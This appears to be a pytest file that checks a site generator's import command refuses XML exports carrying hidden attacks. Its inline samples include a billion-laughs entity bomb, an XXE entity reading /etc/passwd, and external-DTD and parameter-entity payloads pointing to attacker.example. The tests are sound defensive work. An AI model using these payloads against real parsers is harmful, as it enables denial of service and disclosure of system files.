"""XML attacks hidden inside an otherwise valid export: refused, naming the file, writing nothing.

A bare attack file is not an export at all, so refusing it proves little. Here each
attack's DOCTYPE (entity declarations, external DTD) is put into our own valid WXR,
Disqus and frab fixtures, and its entity references into a title they show: the file
would import fine without the attack (``test_the_wrappers_import_fine_without_an_attack``).
Attacks come from ``../shared/corpora/xml-attacks/`` and from our own inline ones, so
the tests run without ``../shared``. benchmarks/security.py prints how fast they are refused.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from support import FIXTURES, MakeSite, run, shared, snapshot

# Each export, and the text of a title it shows, where the attack's entity references go.
EXPORTS = {
    "wordpress": (FIXTURES / "import" / "blog.wxr.xml", "<title>Quina jornada al museu</title>"),
    "disqus": (FIXTURES / "import" / "comments.disqus.xml", "<title>Quina jornada al museu</title>"),
    "frab": (FIXTURES / "schedule" / "offsets.xml", "<title>Opening</title>"),
}
CONFIG = """\
title: Bloc del museu
base_url: https://blog.example.cat/
language: ca
languages: [ca, en]
timezone: Europe/Madrid
"""
# The entry the Disqus fixture's first thread names, so that the Disqus wrapper has something to import.
POST = "---\ntitle: Quina jornada\ndate: 2009-10-20\naliases: [/2009/10/quina-jornada/]\n---\nText.\n"

# Our own attacks: each the body of a small XML file, as the shared corpus has them.
OWN_ATTACKS = {
    "billion-laughs": """<!DOCTYPE lolz [
<!ENTITY lol "lol">
<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
""",
    "external-entity-passwd": """<!DOCTYPE foo [
<!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<foo>&xxe;</foo>
""",
    "external-dtd": """<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">
<foo>text</foo>
""",
    "parameter-entity": """<!DOCTYPE foo [
<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
%remote;
]>
<foo>text</foo>
""",
}

_DOCTYPE = re.compile(r"<!DOCTYPE\b[^\[>]*(?:\[.*?\]\s*)?>", re.DOTALL)
_REFERENCE = re.compile(r"&[A-Za-z_][\w.-]*;")
_PREDEFINED = {"&amp;", "&lt;", "&gt;", "&quot;", "&apos;"}


def shared_attacks() -> dict[str, str]:
    """The attacks of ../shared/corpora/xml-attacks by file name (the calling test skips when it is absent)."""
    return {path.name: path.read_text(encoding="utf-8") for path in sorted(shared("corpora", "xml-attacks").glob("*.xml"))}


def wrap(attack: str, source: str) -> bytes:
    """``source``'s fixture with ``attack``'s DOCTYPE after its XML declaration and its references in a title."""
    doctype = _DOCTYPE.search(attack)
    assert doctype, "an XML attack without a DOCTYPE"
    references = [r for r in _REFERENCE.findall(attack[doctype.end():]) if r not in _PREDEFINED]
    path, title = EXPORTS[source]
    text = path.read_text(encoding="utf-8")
    assert text.startswith("<?xml") and title in text
    declaration_end = text.index("?>") + 2
    text = text[:declaration_end] + "\n" + doctype.group(0) + text[declaration_end:]
    return text.replace(title, title.replace("</", " " + "".join(references) + "</", 1), 1).encode("utf-8")


@pytest.fixture
def site(make_site: MakeSite) -> Path:
    return make_site({"content/posts/quina-jornada.md": POST}, config=CONFIG)


def _assert_refused(site: Path, tmp_path: Path, source: str, name: str, data: bytes,
                    capsys: pytest.CaptureFixture[str]) -> None:
    export = tmp_path / f"{name}.{source}.xml"
    export.write_bytes(data)
    before = snapshot(site)
    code, out, err = run(capsys, "import", source, export, "--site", site)
    assert code == 1, (code, out, err)
    assert str(export) in err and "declares a DOCTYPE" in err, err
    assert "Traceback" not in err + out
    assert snapshot(site) == before, "a refused import wrote into the site"


@pytest.mark.parametrize("source", sorted(EXPORTS))
def test_the_wrappers_import_fine_without_an_attack(source: str, site: Path, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    export = tmp_path / f"plain.{source}.xml"
    path, title = EXPORTS[source]
    export.write_bytes(path.read_bytes().replace(title.encode(), title.replace("</", " plain</").encode()))
    code, out, err = run(capsys, "import", source, export, "--site", site)
    assert code == 0, err
    assert "Traceback" not in err
    written = {rel for rel in snapshot(site) if rel.startswith("content/") and "quina-jornada.md" not in rel}
    assert written, f"the {source} wrapper imported nothing: {out}"


@pytest.mark.parametrize("name", sorted(OWN_ATTACKS))
@pytest.mark.parametrize("source", sorted(EXPORTS))
def test_own_attacks_inside_valid_exports_are_refused(source: str, name: str, site: Path, tmp_path: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    _assert_refused(site, tmp_path, source, name, wrap(OWN_ATTACKS[name], source), capsys)


@pytest.mark.parametrize("source", sorted(EXPORTS))
def test_corpus_attacks_inside_valid_exports_are_refused(source: str, site: Path, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    for name, attack in shared_attacks().items():
        _assert_refused(site, tmp_path, source, name, wrap(attack, source), capsys)


def test_the_wrapper_keeps_the_attack_whole() -> None:
    """The DOCTYPE and every entity reference of the attack are in the wrapped export."""
    wrapped = wrap(OWN_ATTACKS["billion-laughs"], "wordpress").decode()
    assert wrapped.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [')
    assert "<title>Quina jornada al museu &lol9;</title>" in wrapped
    assert wrapped.index("<!DOCTYPE") < wrapped.index("<rss")
